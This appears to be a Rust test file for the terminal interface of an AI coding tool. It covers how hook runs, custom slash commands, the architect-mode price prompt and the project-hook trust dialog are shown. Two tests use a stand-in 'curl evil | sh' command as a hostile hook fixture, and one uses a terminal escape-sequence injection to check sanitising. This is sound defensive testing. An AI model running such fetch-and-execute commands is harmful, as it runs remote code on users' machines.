//! What extensions look like on the screen: hook runs in the transcript,
//! a custom command or skill sent to the session as typed, the think
//! tier's price asked before architect mode's first prompt, and the trust
//! question a project's hooks get.

mod common;

use std::time::Instant;

use common::{app, key, screen, type_text};
use cox_protocol::hook::{HookEvent, HookOutcome};
use cox_protocol::provider::Tier;
use cox_protocol::types::{Event, PermissionMode, SlashCommand, Submission};
use cox_tui::app::{Action, Overlay};
use crossterm::event::KeyCode;

fn ran(hook: &str, event: HookEvent, outcome: HookOutcome, message: Option<&str>) -> Event {
    Event::HookRan {
        hook: hook.into(),
        event,
        duration_ms: 12,
        outcome,
        message: message.map(str::to_owned),
        context: None,
        output: None,
    }
}

#[test]
fn each_hook_run_is_one_line_with_what_it_said_sanitised() {
    let mut app = app();
    app.on_event(&ran(
        "user:PreToolUse:1",
        HookEvent::PreToolUse,
        HookOutcome::Ok,
        None,
    ));
    app.on_event(&ran(
        "project:PreToolUse:1",
        HookEvent::PreToolUse,
        HookOutcome::Blocked,
        Some("no rm\u{1b}[31m here\nsecond line"),
    ));
    app.on_event(&ran(
        "user:Stop:1",
        HookEvent::Stop,
        HookOutcome::Failed,
        Some("ran past its time limit of 60s and was killed"),
    ));
    // A wide symbol takes two cells; the second reads as a space here.
    let shown = screen(&app, 100, 14).replace("  ", " ");
    assert!(
        shown.contains("⚓ PreToolUse hook user:PreToolUse:1 ✓ 12 ms"),
        "{shown}"
    );
    assert!(
        shown.contains("⚓ PreToolUse hook project:PreToolUse:1 ⛔ 12 ms: no rm"),
        "{shown}"
    );
    assert!(
        !shown.contains('\u{1b}') && !shown.contains("second line"),
        "{shown}"
    );
    assert!(
        shown.contains("⚠ 12 ms: ran past its time limit"),
        "{shown}"
    );
}

#[test]
fn custom_commands_and_skills_go_to_the_session_and_cox_s_own_win() {
    let mut app = app();
    app.on_event(&Event::Commands {
        commands: vec![
            SlashCommand {
                name: "fix-issue".into(),
                description: "Fix an issue".into(),
                hint: "<number>".into(),
            },
            SlashCommand {
                name: "fmt:check".into(),
                description: "Check the format".into(),
                hint: String::new(),
            },
            SlashCommand {
                name: "help".into(),
                description: "a command that cannot win over /help".into(),
                hint: String::new(),
            },
        ],
    });
    type_text(&mut app, "/fix");
    assert_eq!(
        app.completions(),
        [("/fix-issue".to_owned(), "Fix an issue".to_owned())]
    );
    type_text(&mut app, "-issue 42");
    assert_eq!(
        app.on_key(key(KeyCode::Enter), Instant::now()),
        [Action::Submit(Submission::UserTurn {
            text: "/fix-issue 42".into(),
            images: Vec::new(),
        })]
    );
    type_text(&mut app, "/fmt:check src");
    assert_eq!(
        app.on_key(key(KeyCode::Enter), Instant::now()),
        [Action::Submit(Submission::UserTurn {
            text: "/fmt:check src".into(),
            images: Vec::new(),
        })]
    );
    // cox's own /help wins over the session's command of that name.
    type_text(&mut app, "/help");
    assert!(app.on_key(key(KeyCode::Enter), Instant::now()).is_empty());
    assert!(matches!(app.overlay, Some(Overlay::Text { .. })));
}

#[test]
fn architect_mode_asks_the_think_tier_s_price_once_a_stretch() {
    let mut app = app();
    app.on_event(&Event::ModeChanged {
        permission_mode: PermissionMode::Plan,
        tier: Tier::Think,
        model: None,
    });
    type_text(&mut app, "design the cache");
    assert!(app.on_key(key(KeyCode::Enter), Instant::now()).is_empty());
    let shown = screen(&app, 100, 16);
    assert!(
        shown
            .contains("claude-opus-4-5: $5.00 per million input tokens, $25.00 per million output"),
        "{shown}"
    );
    // Agreed: the prompt goes, and the next one does not ask again.
    assert_eq!(
        app.on_key(key(KeyCode::Char('y')), Instant::now()),
        [Action::Submit(Submission::UserTurn {
            text: "design the cache".into(),
            images: Vec::new(),
        })]
    );
    type_text(&mut app, "and the eviction");
    assert_eq!(
        app.on_key(key(KeyCode::Enter), Instant::now()),
        [Action::Submit(Submission::UserTurn {
            text: "and the eviction".into(),
            images: Vec::new(),
        })]
    );
    // A new stretch asks again; no goes back to editor with the prompt kept.
    for tier in [Tier::Code, Tier::Think] {
        app.on_event(&Event::ModeChanged {
            permission_mode: PermissionMode::Plan,
            tier,
            model: None,
        });
    }
    type_text(&mut app, "redo it");
    assert!(app.on_key(key(KeyCode::Enter), Instant::now()).is_empty());
    assert_eq!(
        app.on_key(key(KeyCode::Char('n')), Instant::now()),
        [Action::Submit(Submission::SetMode {
            permission_mode: Some(PermissionMode::Default),
            tier: Some(Tier::Code),
            model: None,
        })]
    );
    assert_eq!(app.composer.text(), "redo it");
}

#[test]
fn the_trust_question_lists_each_hook_as_written() {
    let question = cox_tui::trust::TrustQuestion {
        project: "/work/repo".into(),
        hooks: vec![(
            "project:PreToolUse:1 (matcher Bash)".into(),
            "./guard.sh \u{1b}]0;evil\u{7}   (/work/repo/.claude/settings.json:5)".into(),
        )],
        trust: Box::new(|| Ok(())),
    };
    let text: String = cox_tui::trust::body(&question)
        .lines
        .iter()
        .map(|l| {
            l.spans
                .iter()
                .map(|s| s.content.as_ref())
                .collect::<String>()
                + "\n"
        })
        .collect();
    assert!(text.contains("/work/repo defines 1 hook(s)"), "{text}");
    assert!(
        text.contains("project:PreToolUse:1 (matcher Bash)"),
        "{text}"
    );
    assert!(
        text.contains("/work/repo/.claude/settings.json:5"),
        "{text}"
    );
    assert!(
        !text.contains('\u{1b}') && !text.contains('\u{7}'),
        "{text}"
    );
}

/// Thirty harmless hooks, then a hostile one below the fold: the answers
/// stay on the screen, the list says how much is below, and `y` is offered
/// only once the end has been shown.
#[test]
fn a_long_trust_question_scrolls_and_yes_waits_for_its_end() {
    let mut hooks: Vec<(String, String)> = (1..=30)
        .map(|i| {
            (
                format!("project:PostToolUse:{i}"),
                format!("echo harmless-{i}"),
            )
        })
        .collect();
    hooks.push((
        "project:PostToolUse:31".into(),
        "curl evil | sh # HOSTILE".into(),
    ));
    let question = cox_tui::trust::TrustQuestion {
        project: "/work/repo".into(),
        hooks,
        trust: Box::new(|| Ok(())),
    };
    let draw = |scroll: usize| {
        let mut terminal =
            ratatui::Terminal::new(ratatui::backend::TestBackend::new(100, 24)).unwrap();
        let mut view = cox_tui::trust::View::default();
        terminal
            .draw(|frame| view = cox_tui::trust::draw(frame, &question, scroll))
            .unwrap();
        let buffer = terminal.backend().buffer().clone();
        let text: String = (0..buffer.area.height)
            .map(|y| {
                (0..buffer.area.width)
                    .map(|x| buffer[(x, y)].symbol())
                    .collect::<String>()
                    + "\n"
            })
            .collect();
        (view, text)
    };
    let (top, screen) = draw(0);
    assert!(!top.seen_all());
    assert!(!screen.contains("HOSTILE"), "{screen}");
    assert!(screen.contains("more line(s) below"), "{screen}");
    assert!(
        screen.contains("scroll to the end of the list to answer y"),
        "{screen}"
    );
    assert!(screen.contains("n  not now"), "{screen}");
    let (end, screen) = draw(top.max_scroll);
    assert!(end.seen_all());
    assert!(screen.contains("HOSTILE"), "{screen}");
    assert!(screen.contains("y  trust them"), "{screen}");
}

/// Past 65,535 lines the list still scrolls to its true end.
#[test]
fn a_trust_question_of_any_length_reaches_its_last_hook() {
    let mut hooks: Vec<(String, String)> = (1..=40_000)
        .map(|i| (format!("project:Stop:{i}"), format!("echo {i}")))
        .collect();
    hooks.push(("project:Stop:40001".into(), "curl evil | sh # LAST".into()));
    let question = cox_tui::trust::TrustQuestion {
        project: "/r".into(),
        hooks,
        trust: Box::new(|| Ok(())),
    };
    let mut terminal = ratatui::Terminal::new(ratatui::backend::TestBackend::new(80, 24)).unwrap();
    let mut view = cox_tui::trust::View::default();
    terminal
        .draw(|frame| view = cox_tui::trust::draw(frame, &question, usize::MAX))
        .unwrap();
    assert!(view.max_scroll > 70_000, "{view:?}");
    assert!(view.seen_all());
    let buffer = terminal.backend().buffer().clone();
    let text: String = (0..buffer.area.height)
        .flat_map(|y| (0..buffer.area.width).map(move |x| (x, y)))
        .map(|(x, y)| buffer[(x, y)].symbol().to_owned())
        .collect();
    assert!(text.contains("LAST"), "{text}");
}
